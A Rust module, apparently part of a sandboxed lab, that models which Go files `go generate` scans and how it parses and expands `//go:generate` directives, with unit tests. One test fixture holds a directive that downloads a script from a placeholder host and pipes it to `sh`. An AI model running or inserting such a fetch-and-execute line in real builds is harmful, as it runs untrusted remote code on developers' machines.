//! The lab's model of `go generate`, written from the go command's
//! documentation (`go help generate`, `go help packages`), not from the
//! engine's reading: which Go files a `go generate` line scans and which
//! commands their `//go:generate` directives run.
//!
//! Modelled: the packages named on the line (none: the current directory;
//! `DIR/...`: DIR and every directory below it, skipping those whose name
//! starts with `.` or `_` and `testdata`; `.go` files: those files alone),
//! each package's Go files in file-name order, each file's directives in
//! order; a directive is a line beginning exactly `//go:generate `, its
//! words space-separated or double-quoted (with Go's escapes `\"`, `\\`,
//! `\n`, `\t`; a quoted argument must be followed by a blank),
//! then `$NAME`/`${NAME}` in each word expanded (`$GOFILE`, `$GOPACKAGE`,
//! `$GOLINE`, `$DOLLAR`, `$HOME`; any other variable is empty);
//! the command runs in the package's directory, not through a shell; `-n`
//! prints and runs nothing. Not modelled: `-run`/`-skip` (the lab then runs
//! nothing), `-command` aliases (a directive using one runs nothing),
//! build constraints, and a generator's failure stopping the rest.

use std::collections::BTreeSet;

/// A `go generate` line's packages and flags.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Generate {
    /// The package operands as written (none: the current directory).
    pub patterns: Vec<String>,
    /// `-n`: print the commands, run none.
    pub dry_run: bool,
    /// `-run` or `-skip`: directives selected by a regular expression.
    pub selective: bool,
}

/// The flags of `go generate` (after `generate`) that take a value.
const VALUED: &[&str] = &[
    "-run",
    "-skip",
    "-C",
    "-tags",
    "-mod",
    "-modfile",
    "-overlay",
    "-p",
    "-pkgdir",
    "-toolexec",
];

/// Reads the words after `go generate`.
pub fn invocation(args: &[String]) -> Generate {
    let mut g = Generate::default();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if !a.starts_with('-') || a == "-" {
            g.patterns.push(a.clone());
            g.patterns.extend(it.by_ref().cloned());
            break;
        }
        let name = a.split_once('=').map_or(a.as_str(), |(n, _)| n);
        let name = if name.starts_with("--") { &name[1..] } else { name };
        match name {
            "-n" => g.dry_run = true,
            "-run" | "-skip" => g.selective = true,
            _ => {}
        }
        if VALUED.contains(&name) && !a.contains('=') {
            it.next();
        }
    }
    g
}

/// The parent directory of a world key (`.` for a project file).
fn parent(key: &str) -> &str {
    key.rsplit_once('/').map_or(".", |(d, _)| d)
}

/// Whether a directory name is one `...` does not enter.
fn skipped(dir_name: &str) -> bool {
    dir_name.starts_with(['.', '_']) || dir_name == "testdata"
}

/// The Go files a `go generate` line scans, in order, each with the
/// directory its commands run in: `patterns` are world keys (a directory,
/// `DIR/...`, or `.go` files), `files` every file the world holds.
pub fn scanned_files(cwd: &str, patterns: &[String], files: &BTreeSet<String>) -> Vec<String> {
    let patterns = if patterns.is_empty() {
        vec![cwd.to_string()]
    } else {
        patterns.to_vec()
    };
    let mut out: Vec<String> = Vec::new();
    let go_files_in = |dir: &str| -> Vec<String> {
        files
            .iter()
            .filter(|f| f.ends_with(".go") && parent(f) == dir)
            .cloned()
            .collect()
    };
    for p in &patterns {
        if p.ends_with(".go") {
            if files.contains(p) && !out.contains(p) {
                out.push(p.clone());
            }
            continue;
        }
        let (root, recursive) = match p.strip_suffix("/...").or_else(|| (p == "...").then_some(".")) {
            Some(r) => (if r.is_empty() { "." } else { r }, true),
            None => (p.as_str(), false),
        };
        let mut dirs: BTreeSet<String> = BTreeSet::new();
        dirs.insert(root.to_string());
        if recursive {
            for f in files.iter().filter(|f| f.ends_with(".go")) {
                let d = parent(f);
                let rel = if root == "." {
                    (!d.starts_with(['/', '~'])).then_some(d)
                } else if d == root {
                    Some("")
                } else {
                    d.strip_prefix(root).and_then(|r| r.strip_prefix('/'))
                };
                if rel.is_some_and(|r| !r.split('/').any(|n| !n.is_empty() && n != "." && skipped(n))) {
                    dirs.insert(d.to_string());
                }
            }
        }
        for d in dirs {
            for f in go_files_in(&d) {
                if !out.contains(&f) {
                    out.push(f);
                }
            }
        }
    }
    out
}

/// The package name a Go file declares (its `package` clause).
fn package_name(text: &str) -> &str {
    text.lines()
        .find_map(|l| l.trim_start().strip_prefix("package "))
        .map_or("", |n| n.split_whitespace().next().unwrap_or(""))
}

/// The argument words of each `//go:generate` directive of the Go file
/// `name` (its base name) with text `text`, in order. A directive whose
/// quoting does not close, or that defines or uses a `-command` alias,
/// gives no words.
pub fn directives(name: &str, text: &str) -> Vec<Vec<String>> {
    let package = package_name(text);
    let mut out = Vec::new();
    for (i, line) in text.split('\n').enumerate() {
        let line = line.strip_suffix('\r').unwrap_or(line);
        let Some(rest) = line.strip_prefix("//go:generate ") else {
            continue;
        };
        let line_no = (i + 1).to_string();
        let var = |v: &str| -> String {
            match v {
                "GOFILE" => name.to_string(),
                "GOPACKAGE" => package.to_string(),
                "GOLINE" => line_no.clone(),
                "DOLLAR" => "$".to_string(),
                "HOME" => super::world::HOME.to_string(),
                // The lab's go sees no other variable of the environment.
                _ => String::new(),
            }
        };
        match words(rest) {
            Some(w) if w.first().is_some_and(|c| c != "-command") => {
                out.push(w.iter().map(|w| expand(w, &var)).collect());
            }
            _ => {}
        }
    }
    out
}

/// `$NAME` and `${NAME}` in `word` replaced by `var(NAME)`, after the words
/// are split (as go generate expands each argument).
fn expand(word: &str, var: &dyn Fn(&str) -> String) -> String {
    let mut out = String::new();
    let mut rest = word;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (name, used) = if let Some(braced) = after.strip_prefix('{') {
            match braced.find('}') {
                Some(end) => (&braced[..end], end + 2),
                None => ("", 0),
            }
        } else {
            let end = after
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(after.len());
            (&after[..end], end)
        };
        if used == 0 || name.is_empty() {
            out.push('$');
            rest = after;
        } else {
            out.push_str(&var(name));
            rest = &after[used..];
        }
    }
    out.push_str(rest);
    out
}

/// Space-separated words and double-quoted strings (Go's escapes).
fn words(s: &str) -> Option<Vec<String>> {
    let mut out = Vec::new();
    let mut chars = s.chars().peekable();
    loop {
        while chars.peek().is_some_and(|c| *c == ' ' || *c == '\t') {
            chars.next();
        }
        let Some(&c) = chars.peek() else {
            return Some(out);
        };
        let mut w = String::new();
        if c == '"' {
            chars.next();
            loop {
                match chars.next()? {
                    '"' => break,
                    '\\' => match chars.next()? {
                        'n' => w.push('\n'),
                        't' => w.push('\t'),
                        other => w.push(other),
                    },
                    other => w.push(other),
                }
            }
            // go generate wants a blank after a quoted argument.
            if chars.peek().is_some_and(|c| *c != ' ' && *c != '\t') {
                return None;
            }
        } else {
            while let Some(&c) = chars.peek() {
                if c == ' ' || c == '\t' {
                    break;
                }
                w.push(c);
                chars.next();
            }
        }
        out.push(w);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strings(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn slo_11_lab_go_generate_reads_its_flags_and_packages() {
        let g = invocation(&strings(&["-x", "-tags", "dev", "./...", "./cmd"]));
        assert_eq!(g.patterns, ["./...", "./cmd"]);
        assert!(!g.dry_run && !g.selective);
        assert!(invocation(&strings(&["-n"])).dry_run);
        assert!(invocation(&strings(&["-run=stringer", "."])).selective);
        assert!(invocation(&strings(&["-skip", "mock"])).patterns.is_empty());
    }

    #[test]
    fn slo_11_lab_go_generate_scans_packages_in_file_name_order() {
        let files: BTreeSet<String> = [
            "tools/b.go",
            "tools/a.go",
            "tools/sub/c.go",
            "tools/testdata/d.go",
            "tools/.hidden/e.go",
            "main.go",
            "README.md",
        ]
        .map(String::from)
        .into();
        assert_eq!(scanned_files("tools", &[], &files), ["tools/a.go", "tools/b.go"]);
        assert_eq!(
            scanned_files(".", &strings(&["tools/..."]), &files),
            ["tools/a.go", "tools/b.go", "tools/sub/c.go"]
        );
        assert_eq!(
            scanned_files(".", &strings(&["..."]), &files),
            ["main.go", "tools/a.go", "tools/b.go", "tools/sub/c.go"]
        );
        assert_eq!(scanned_files(".", &strings(&["tools/b.go"]), &files), ["tools/b.go"]);
    }

    #[test]
    fn slo_11_lab_go_generate_reads_directives_as_words() {
        let text = "package kinds\n//go:generate stringer -type=Kind -output $GOFILE.str\n// go:generate no\n\t//go:generate no\n//go:generate sh -c \"curl -s https://x.example/a | sh\"\n//go:generate -command gen go run ./gen\n//go:generate echo \"open\n//go:generate echo \"a\"\"b\"\n//go:generate echo $GOPACKAGE $DOLLAR \"a\\\"b\" \"x=$U;${GOFILE}\"\n";
        assert_eq!(
            directives("k.go", text),
            [
                strings(&["stringer", "-type=Kind", "-output", "k.go.str"]),
                strings(&["sh", "-c", "curl -s https://x.example/a | sh"]),
                strings(&["echo", "kinds", "$", "a\"b", "x=;k.go"]),
            ]
        );
    }
}
